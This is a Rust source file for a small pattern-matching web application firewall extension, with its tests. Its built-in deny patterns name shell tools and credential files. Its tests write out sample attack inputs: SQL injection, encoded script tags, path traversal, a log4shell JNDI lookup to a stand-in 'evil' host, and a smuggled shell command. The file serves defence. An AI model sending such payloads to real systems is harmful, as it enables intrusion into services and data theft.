//! Refuses requests that look like attacks, by patterns over path, query, headers and body.
//!
//! It is small on purpose: it stops what scans the whole net, and no one who takes pains.

use regex_lite::{Regex, RegexBuilder};
use serde::Deserialize;
use tidegate_guest::config::Many;
use tidegate_guest::log::{self, Level};
use tidegate_guest::metrics::Counter;
use tidegate_guest::{
    BodyMode, BodyVerdict, Error, Filter, Interest, Piece, Reply, Request, Result, Verdict, export, vars,
};

/// The configuration that a policy writes in `config { … }`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    /// The fate of a request that looks like an attack.
    #[serde(default)]
    mode: Mode,
    /// Patterns beside the built-in ones.
    #[serde(default)]
    rule: Many<Rule>,
    /// Built-in patterns that are not wanted, by name.
    #[serde(default)]
    without: Many<String>,
    /// The length of a body that is looked at, in bytes; a longer one fails, and the policy's `on-error` says what that
    /// means.
    #[serde(default = "body_bytes")]
    body: u32,
}

/// The fate of an attack.
#[derive(Deserialize, Default, Clone, Copy, PartialEq, Eq)]
#[serde(rename_all = "lowercase")]
enum Mode {
    #[default]
    Block,
    Detect,
}

/// A pattern of the policy's own.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Rule {
    name: String,
    pattern: String,
}

const fn body_bytes() -> u32 {
    64 * 1024
}

/// The patterns of texts that nobody means well who sends them. Escapes are resolved before they are tried, and case
/// does not matter.
const BUILT_IN: [(&str, &str); 6] = [
    ("sql", r"('|\d)\s*(or|and)\s+['\d]+\s*=|union\s+(all\s+)?select\s|;\s*(drop|truncate)\s+table\s|sleep\s*\(\s*\d"),
    ("script", r"<\s*script\b|javascript\s*:|\bon(error|load|click|mouseover)\s*="),
    ("traversal", r"(^|[/\\=])\.\.([/\\]|$)|/etc/(passwd|shadow)|\bwin\.ini\b"),
    ("shell", r"[;|&`]\s*(cat|curl|wget|nc|bash|sh|powershell)\s|\$\((curl|wget|cat|id)\b"),
    ("log4shell", r"\$\{\s*(jndi|lower|upper|env|sys)\s*:"),
    ("null", "\u{0}"),
];

/// The extension.
pub struct SmallWaf {
    mode: Mode,
    rules: Vec<(String, Regex)>,
    body: u32,
    found: Counter,
}

impl Filter for SmallWaf {
    type Config = Config;

    fn init(config: Config) -> Result<Self> {
        let unknown = |name: &&String| !BUILT_IN.iter().any(|(known, _)| known == name);
        if let Some(name) = config.without.iter().find(unknown) {
            let known: Vec<&str> = BUILT_IN.iter().map(|(name, _)| *name).collect();
            return Err(Error::new(format!("there is no built-in `{name}`: there are {}", known.join(", "))));
        }
        let built_in = BUILT_IN.iter().filter(|(name, _)| !config.without.iter().any(|without| without == name));
        let built_in = built_in.map(|(name, pattern)| compile(name, pattern));
        let own = config.rule.iter().map(|rule| compile(&rule.name, &rule.pattern));
        let rules = built_in.chain(own).collect::<Result<_>>()?;
        Ok(Self { mode: config.mode, rules, body: config.body, found: Counter::new("attacks") })
    }

    fn interest(&self) -> Interest {
        Interest::everything().request_body(BodyMode::Buffer(self.body))
    }

    fn on_request(&self, request: &mut Request) -> Verdict {
        let query = request.query().unwrap_or_default();
        let found = self.find("path", request.path().as_bytes()).or_else(|| self.find("query", query.as_bytes()));
        let mut headers = request.headers().into_iter();
        let found = found.or_else(|| headers.find_map(|(name, value)| self.find(&name, value.as_bytes())));
        match found {
            Some(found) if self.tell(&found) => Verdict::respond(refusal()),
            _ => Verdict::next(),
        }
    }

    fn on_request_body(&self, _: &mut Request, piece: Piece<'_>) -> BodyVerdict {
        match self.find("body", piece.data) {
            Some(found) if self.tell(&found) => BodyVerdict::respond(refusal()),
            _ => BodyVerdict::next(),
        }
    }
}

export!(SmallWaf: request, request_body);

impl SmallWaf {
    /// The first pattern that is found, and where.
    fn find(&self, place: &str, bytes: &[u8]) -> Option<String> {
        // Twice: some hide an escape in an escape.
        let text = unescape(&unescape(&String::from_utf8_lossy(bytes)));
        let (name, _) = self.rules.iter().find(|(_, pattern)| pattern.is_match(&text))?;
        Some(format!("{name} in {place}"))
    }

    /// Tells the operator; whether the request is to be refused.
    fn tell(&self, found: &str) -> bool {
        self.found.add(1.0);
        vars::set("waf", found);
        log::write(Level::Warn, &format!("looks like an attack: {found}"));
        self.mode == Mode::Block
    }
}

/// The answer to an attack. Of the pattern it says nothing: who attacks would learn from it.
fn refusal() -> Reply {
    Reply::new(403).text("refused\n")
}

fn compile(name: &str, pattern: &str) -> Result<(String, Regex)> {
    let compiled = RegexBuilder::new(pattern).case_insensitive(true).size_limit(1 << 20).build();
    let compiled = compiled.map_err(|error| Error::new(format!("the pattern of `{name}` is wrong: {error}")))?;
    Ok((name.to_owned(), compiled))
}

/// Resolves `%41` and `+`, as forms write them.
fn unescape(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((first, after)) = rest.split_first() {
        let escaped = (*first == b'%').then(|| after.get(..2)).flatten();
        let value = escaped.and_then(|digits| u8::from_str_radix(std::str::from_utf8(digits).ok()?, 16).ok());
        (rest, _) = match value {
            Some(value) => (&after[2..], bytes.push(value)),
            None => (after, bytes.push(if *first == b'+' { b' ' } else { *first })),
        };
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests")]
mod tests {
    use tidegate_guest::{Outcome, TestHost};

    use super::*;

    fn found(host: TestHost) -> Option<String> {
        let outcome: Outcome = host.run::<SmallWaf>();
        assert_eq!(outcome.status() == 403, outcome.var("waf").is_some());
        assert_eq!(outcome.metric("attacks").len(), usize::from(outcome.status() == 403));
        outcome.var("waf").map(str::to_owned)
    }

    #[test]
    fn attacks_are_found_wherever_they_are() {
        let host = TestHost::new;
        for (sent, expected) in [
            (host().target("/?id=1'+OR+'1'='1"), "sql in query"),
            (host().target("/?id=1%20UNION%20SELECT%20password"), "sql in query"),
            (host().target("/?q=%253Cscript%253E"), "script in query"),
            (host().target("/?file=../../etc/hosts"), "traversal in query"),
            (host().target("/x%2500"), "null in path"),
            (host().header("user-agent", "${jndi:ldap://evil}"), "log4shell in user-agent"),
            (host().method("POST").body("cmd=a;cat+/etc/hosts"), "shell in body"),
            (host().method("POST").body("<SCRIPT src=x>"), "script in body"),
        ] {
            assert_eq!(found(sent).as_deref(), Some(expected));
        }
    }

    #[test]
    fn what_people_send_passes() {
        for sent in [
            TestHost::new().target("/search?q=select+a+shirt+and+trousers"),
            TestHost::new().target("/?a=1&b=2&range=1..5&name=O'Brien"),
            TestHost::new().header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)").header("accept", "*/*;q=0.8"),
            TestHost::new().method("POST").body(r#"{"text": "drop the table, or leave it"}"#),
        ] {
            assert_eq!(found(sent), None);
        }
    }

    #[test]
    fn it_may_only_tell() {
        let outcome = TestHost::new().config(r#"{"mode": "detect"}"#).target("/?q=<script>").run::<SmallWaf>();
        assert_eq!((outcome.status(), outcome.var("waf")), (200, Some("script in query")));
        assert!(outcome.log().eq([(Level::Warn, "looks like an attack: script in query")]));
    }

    #[test]
    fn patterns_are_added_and_taken_out() {
        let config = r#"{"rule": {"name": "wp", "pattern": "/wp-(admin|login)"}, "without": ["script"]}"#;
        let host = || TestHost::new().config(config);
        assert_eq!(found(host().target("/wp-login.php")).as_deref(), Some("wp in path"));
        assert_eq!(found(host().target("/?q=<script>")), None);
    }

    #[test]
    fn a_bad_configuration_says_what_to_change() {
        let refused = |config: &str| TestHost::new().config(config).try_run::<SmallWaf>().unwrap_err().to_string();
        assert!(refused(r#"{"rule": {"name": "a", "pattern": "("}}"#).starts_with("the pattern of `a` is wrong: "));
        assert!(refused(r#"{"without": "sqli"}"#).starts_with("there is no built-in `sqli`: there are sql, script"));
    }
}
